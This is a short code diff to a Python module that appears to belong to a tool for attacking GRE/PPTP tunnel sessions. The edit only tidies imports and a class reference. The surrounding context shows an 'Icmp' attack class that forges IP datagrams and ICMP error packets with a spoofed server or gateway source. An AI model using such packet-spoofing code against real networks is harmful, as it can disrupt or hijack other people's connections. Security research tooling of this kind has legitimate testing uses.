@@ -5,8 +5,8 @@
 import random
 import struct
 
-from . import forged_ip, gre_packet
-from .gre_packet import FIXED, KEY, PPP, SEQUENCE, VERSION, ACKNOWLEDGEMENT, GrePacket
+from . import forged_ip
+from .gre_packet import ACKNOWLEDGEMENT, FIXED, KEY, PPP, SEQUENCE, VERSION, GrePacket
 from .numbered_frames import DISCARDED, forged_frame
 
 PAUSE = 0.001
@@ -264,7 +264,7 @@ class Icmp(GreAttack):
 
     def steps(self, kind, code, count=1, word=0):
         quoted = forged_ip.datagram(self.session.peer, self.session.server.address, forged_ip.GRE,
-                                    gre_packet.GrePacket(self.session.call_id, 1, None, b"").encode())
+                                    GrePacket(self.session.call_id, 1, None, b"").encode())
         source = self.session.server.gateway if kind == 5 else self.session.server.address
         error = forged_ip.datagram(source, self.session.peer, forged_ip.ICMP,
                                    forged_ip.icmp_error(kind, code, quoted, word))
